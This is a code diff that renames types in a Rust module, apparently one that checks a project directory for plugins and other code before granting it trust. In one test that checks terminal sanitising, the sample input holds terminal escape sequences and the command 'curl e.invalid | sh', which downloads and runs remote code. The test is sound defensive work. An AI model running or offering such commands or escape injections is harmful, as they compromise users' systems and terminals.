@@ -112,7 +112,7 @@ impl ItemKind {
 
 /// One piece of code, or something that leads to code or reads.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Item {
+pub struct TrustItem {
     /// What sort it is.
     pub kind: ItemKind,
     /// The file that holds it.
@@ -121,7 +121,7 @@ pub struct Item {
     pub summary: String,
 }
 
-impl Item {
+impl TrustItem {
     /// As much as a person may have to see before they trust it.
     #[cfg(unix)]
     fn in_full(&self) -> String {
@@ -130,7 +130,7 @@ impl Item {
     }
 }
 
-impl fmt::Display for Item {
+impl fmt::Display for TrustItem {
     /// Path and summary, safe for a terminal.
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "{}: {}", shown(&self.path.to_string_lossy()), shown(&self.summary))
@@ -192,7 +192,7 @@ pub struct Findings {
     /// The directory, without symbolic links.
     pub directory: PathBuf,
     /// What was found, by path.
-    pub items: Vec<Item>,
+    pub items: Vec<TrustItem>,
     /// The paths and contents of everything that was found, of which the digest is made.
     evidence: Evidence,
     /// Whether the answers that are remembered are the user's: a project may bring its own along.
@@ -201,8 +201,8 @@ pub struct Findings {
 
 impl Findings {
     /// What is most dangerous first.
-    fn by_danger(&self) -> Vec<&Item> {
-        let mut items: Vec<&Item> = self.items.iter().collect();
+    fn by_danger(&self) -> Vec<&TrustItem> {
+        let mut items: Vec<&TrustItem> = self.items.iter().collect();
         items.sort_by_key(|item| item.kind.danger());
         items
     }
@@ -213,7 +213,7 @@ impl Findings {
     pub fn is_copy(&self, root: &Path, original: &Self, original_root: &Path) -> bool {
         let moved = self.evidence.moved(root, original_root);
         let copied = moved.below(original_root);
-        let is_in_either = |item: &Item| item.path.starts_with(root) || item.path.starts_with(original_root);
+        let is_in_either = |item: &TrustItem| item.path.starts_with(root) || item.path.starts_with(original_root);
         self.items.iter().all(is_in_either)
             && copied.len() == moved.len()
             && copied == original.evidence.below(original_root)
@@ -273,7 +273,7 @@ pub fn require(
     if findings.items.is_empty() || choice == TrustChoice::Granted || covers(trusted_directories, findings) {
         return Ok(());
     }
-    let memory = memory::Memory::new(&directories.state);
+    let memory = memory::TrustFile::new(&directories.state);
     if findings.is_state_own && memory.holds(findings, asker) {
         return Ok(());
     }
@@ -317,7 +317,7 @@ fn refusal(findings: &Findings, directories: &Directories, why: &str) -> Failure
         "cannot work in `{directory}`: it brings along what runs or reads outside of it, and {why}"
     ));
     let items = findings.by_danger().into_iter();
-    failure.causes = items.take(LISTED).map(Item::to_string).collect();
+    failure.causes = items.take(LISTED).map(TrustItem::to_string).collect();
     if findings.items.len() > LISTED {
         failure
             .causes
@@ -553,7 +553,7 @@ mod tests {
 
     #[test]
     fn what_a_stranger_wrote_cannot_move_the_cursor() {
-        let item = Item {
+        let item = TrustItem {
             kind: ItemKind::Plugin,
             path: PathBuf::from("/p/\x1b[2Jx\u{202e}"),
             summary: format!("a\nb\u{9b}c{}; curl e.invalid | sh", "x".repeat(300)),
